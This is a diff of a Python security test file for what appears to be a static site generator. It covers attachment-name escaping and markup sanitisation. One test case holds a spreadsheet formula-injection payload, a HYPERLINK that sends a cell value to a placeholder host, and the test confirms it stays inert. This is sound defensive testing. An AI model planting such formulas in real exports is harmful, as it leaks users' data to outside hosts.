@@ -23,7 +23,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from conftest import REPO, post_text, run_cli, write_site
-from hostile_files import docx_every_part, docx_with_paragraphs, jpeg_declaring, pdf_with_parts, png_without_iend
+from hostile_files import docx_every_part, docx_with_paragraphs, jpeg_declaring, pdf_with_parts, png_without_iend, tiny_pdf
 from generator.build import Builder, BuildOptions, BuildResult
 from generator.markup import sanitize, url_scheme
 
@@ -464,11 +464,11 @@ CASES: dict[str, Case] = {
         "safe", present=("=HYPERLINK(&#34;http://x.example/?leak=&#34;&amp;A2,&#34;点击&#34;)",), absent=("<a href=\"http://x.example",),
     ),
     "attachment-hash-question-name": Case(
-        {"content/jx/a/index.md": md("正文", attachments="['a#b?.pdf']"), "content/jx/a/a#b?.pdf": b"%PDF-1.4\n"},
+        {"content/jx/a/index.md": md("正文", attachments="['a#b?.pdf']"), "content/jx/a/a#b?.pdf": tiny_pdf()},
         "safe", path="content/jx/a/index.md", present=('href="../../jx/a/a%23b%3F.pdf"',), absent=("a#b?.pdf\"",),
     ),
     "body-link-hash-question-name": Case(
-        {"content/jx/a/index.md": md("见[附件](<a%23b%3F.pdf>)。"), "content/jx/a/a#b?.pdf": b"%PDF-1.4\n"},
+        {"content/jx/a/index.md": md("见[附件](<a%23b%3F.pdf>)。"), "content/jx/a/a#b?.pdf": tiny_pdf()},
         "safe", path="content/jx/a/index.md", present=('href="a%23b%3F.pdf"',),
     ),
     "encoding-utf8-with-ff-fe-inside": Case(
